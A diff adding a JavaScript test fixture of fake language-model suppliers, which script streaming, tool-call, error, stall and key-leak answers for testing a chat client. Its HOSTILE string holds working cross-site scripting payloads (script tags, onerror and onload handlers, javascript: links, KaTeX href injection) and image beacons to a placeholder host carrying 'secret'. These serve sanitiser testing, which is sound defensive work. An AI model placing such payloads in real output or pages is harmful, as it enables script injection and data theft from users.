@@ -1,0 +1,174 @@
+// What the fake suppliers say, whatever protocol they speak. The model's name chooses (see ANSWERS).
+import { inflateSync } from "node:zlib";
+
+const MARKDOWN = `## Quarterly summary
+
+Sales grew **8.7 %**. See the [notice](https://example.com/notice).
+
+| Region | Sales | Change |
+| --- | ---: | ---: |
+| East | 4,812 | +18.6 % |
+| North | 3,260 | −9.4 % |
+
+\`\`\`sql
+SELECT region, SUM(amount) AS total
+FROM sales GROUP BY region;
+\`\`\`
+
+The mean is $\\bar{x} = \\frac{1}{n}\\sum_{i=1}^{n} x_i$ and
+
+$$
+\\sigma^2 = \\frac{1}{n}\\sum (x_i - \\bar{x})^2
+$$
+
+- [x] checked
+- [ ] open
+`;
+
+const HOSTILE = `Before <script>window.__pwned = 1</script> after
+
+<img src="https://canary.invalid/a.png?d=secret" onerror="window.__pwned = 2"> ![pixel](https://canary.invalid/b.png?d=secret)
+
+[click](javascript:window.__pwned=3) <a href="javascript:window.__pwned=4">raw</a> <iframe src="https://canary.invalid/c"></iframe>
+
+<svg onload="window.__pwned=5"><a xlink:href="javascript:window.__pwned=6"><text>x</text></a></svg>
+
+<style>body{background:url(https://canary.invalid/d)}</style> <form action="https://canary.invalid/e"><input name=x></form>
+
+$\\href{javascript:window.__pwned=7}{x}$ $\\htmlData{onclick=window.__pwned=8}{y}$
+`;
+
+const CLOCK = { id: "call_1", name: "clock", arguments: '{"zone":"UTC"}' };
+const WEATHER = { id: "call_2", name: "weather", arguments: '{"city":"北京 👩‍💻","days":[1,2.50]}' };
+
+const words = (count) => Array.from({ length: count }, (_, i) => ["知识 ", "answer ", "合同，", "token "][i % 4]);
+
+/**
+ * An asked question as every fake reads it: `messages` [{ role, text, pictures: [{ mediaType, bytes }] }], `schema` of the
+ * answer where one was asked for, `body` as sent, `key` the caller used.
+ *
+ * An answer: `pieces` are text deltas, `thinking` come first, `tools` last; `delay` ms to the first byte, `gap` ms between;
+ * `end` other than a good one: close, destroy, stall, error. With a `status`: a refusal.
+ */
+const ANSWERS = {
+  "fake-echo": ({ messages }) => ({ pieces: [...`Echo: ${seen(messages.at(-1))}`] }),
+  "fake-history": ({ messages, body }) => ({
+    pieces: [JSON.stringify((body.messages ?? messages).map(({ role, content, text }) => [role, content ?? text]))],
+  }),
+  "fake-thinking": () => ({
+    thinking: ["First I compare. ", "Then I conclude."],
+    pieces: ["The ", "answer ", "is 42."],
+    gap: 30,
+  }),
+  "fake-think-tag": () => ({ pieces: ["<thi", "nk>quietly", " pondering</th", "ink>\n\nDone."] }),
+  "fake-slow": () => ({ pieces: words(400), gap: 50 }),
+  "fake-slow-first": () => ({ pieces: ["late"], delay: 400 }),
+  "fake-long": () => ({
+    pieces: Array.from({ length: 120 }, (_, i) => `Paragraph ${i + 1}. ${words(30).join("")}\n\n`),
+    gap: 5,
+  }),
+  "fake-markdown": () => ({ pieces: MARKDOWN.match(/[\s\S]{1,9}/g), gap: 8 }),
+  "fake-hostile": () => ({ pieces: HOSTILE.match(/[\s\S]{1,11}/g) }),
+  "fake-vision": ({ messages }) => ({
+    pieces: messages
+      .flatMap(({ pictures }) => pictures)
+      .map(({ mediaType, bytes }) => `${mediaType} of ${bytes} bytes`),
+  }),
+  "fake-schema": ({ schema }) => ({ pieces: JSON.stringify(sample(schema)).match(/.{1,6}/g) }),
+  // Does what it is asked to: calls a tool, names a colour, thinks, keeps to a schema.
+  "fake-able": ({ messages, schema, body }) => {
+    const [tool] = toolNames(body);
+    const picture = messages.at(-1).pictures[0];
+    if (tool && tool !== "json")
+      return { pieces: [], tools: [{ id: "call_9", name: tool, arguments: '{"city":"Paris"}' }] };
+    if (schema) return { pieces: JSON.stringify(sample(schema)).match(/.{1,6}/g) };
+    if (picture) return { pieces: ["It is ", `${picture.colour}.`] };
+    return { thinking: ["Let me think. "], pieces: ["One, ", "two, ", "three."] };
+  },
+  // Refuses what goes beyond plain text, in the words of a server that knows nothing of it.
+  "fake-plain": ({ messages, schema, body }) => {
+    const extra = toolNames(body).length > 0 || schema || messages.at(-1).pictures.length > 0 || body.reasoning_effort;
+    return extra ? { status: 400, error: { message: "unknown field" } } : { pieces: ["One, ", "two."] };
+  },
+  "fake-cut": () => ({ pieces: words(20), gap: 5, end: "close" }),
+  "fake-reset": () => ({ pieces: words(20), gap: 5, end: "destroy" }),
+  "fake-stall": () => ({ pieces: words(20), end: "stall" }),
+  "fake-silent": () => ({ pieces: [], delay: 3_600_000 }),
+  "fake-length": () => ({ pieces: words(10), finish: "length" }),
+  "fake-filter": () => ({ pieces: words(5), finish: "filter" }),
+  "fake-empty": () => ({ pieces: [] }),
+  "fake-no-usage": () => ({ pieces: words(40), usage: false }),
+  "fake-error-chunk": () => ({ pieces: words(3), end: "error" }),
+  "fake-tools": () => ({ pieces: [], tools: [CLOCK] }),
+  "fake-two-tools": () => ({ pieces: ["Let me look."], tools: [CLOCK, WEATHER] }),
+  // Every character and every line is cut somewhere, and lines that are no JSON stand between.
+  "fake-malformed": () => ({ pieces: ["你好", "，👩‍💻 ", "世界"], bytewise: true, junk: true }),
+  "fake-html": () => ({ raw: Buffer.from("<!doctype html><h1>Welcome</h1>"), type: "text/html" }),
+  "fake-401": () => ({
+    status: 401,
+    error: { message: "Incorrect API key provided: sk-canary-123456789", code: "invalid_api_key" },
+  }),
+  "fake-402": () => ({ status: 402, error: { message: "insufficient_quota" } }),
+  "fake-429": () => ({ status: 429, error: { message: "slow down" }, headers: { "retry-after": "0" } }),
+  "fake-429-later": () => ({ status: 429, error: { message: "slow down" }, headers: { "retry-after": "2" } }),
+  "fake-500": () => ({ status: 500, error: { message: "stack at internal-host.corp:8080 /srv/app.py" } }),
+  "fake-529": () => ({ status: 529, error: { message: "Overloaded" } }),
+  "fake-context": () => ({
+    status: 400,
+    error: { message: "maximum context length is 8192 tokens", code: "context_length_exceeded" },
+  }),
+  "fake-blocked": () => ({ status: 400, error: { message: "refused by our content_policy", code: "content_filter" } }),
+  // Says back what it was sent, the key among it.
+  "fake-leak": ({ key }) => ({
+    status: 400,
+    error: { message: `no access for ${key} at https://internal.corp/admin` },
+  }),
+  "fake-huge-error": () => ({ status: 500, huge: 50_000_000 }),
+  // Fails once for each client, then answers.
+  "fake-flaky": (_question, state) =>
+    state.flaky++ % 2 === 0 ? { status: 503, error: { message: "overloaded" } } : { pieces: ["Recovered."] },
+};
+
+export const MODEL_NAMES = Object.keys(ANSWERS);
+
+/** The answer of a model; undefined for a name nobody knows. */
+export function answerOf(model, question, state) {
+  const answer = Object.hasOwn(ANSWERS, model) ? ANSWERS[model](question, state) : undefined;
+  return answer && { thinking: [], pieces: [], tools: [], ...answer };
+}
+
+/** Tools as each protocol names them. */
+const toolNames = ({ tools = [] }) => tools.map(({ name, function: called }) => called?.name ?? name).filter(Boolean);
+
+/** The colour of a PNG's first dot, where it is a plain one. */
+export function colourOf(bytes) {
+  const at = bytes.indexOf("IDAT");
+  if (at < 0) return "unknown";
+  try {
+    const [, red, green, blue] = inflateSync(bytes.subarray(at + 4, at + 4 + bytes.readUInt32BE(at - 4)));
+    if (red > 150 && green > 150) return "yellow";
+    return red > green && red > blue ? "red" : green > blue ? "green" : "blue";
+  } catch {
+    return "unknown";
+  }
+}
+
+function seen({ text, pictures }) {
+  return text + pictures.map(() => "[image]").join("");
+}
+
+/** A value that fits a JSON schema. */
+function sample(schema = { type: "object" }) {
+  if (schema.type === "object") {
+    return Object.fromEntries(Object.entries(schema.properties ?? {}).map(([name, value]) => [name, sample(value)]));
+  }
+  return { array: [], number: 1.5, integer: 1, boolean: true }[schema.type] ?? "文字";
+}
+
+/** Tokens every fake reports: 12 in, one for each piece out. */
+export const tokensOf = ({ pieces, thinking }) => ({
+  input: 12,
+  output: pieces.length + thinking.length,
+  reasoning: thinking.length,
+  cached: 4,
+});
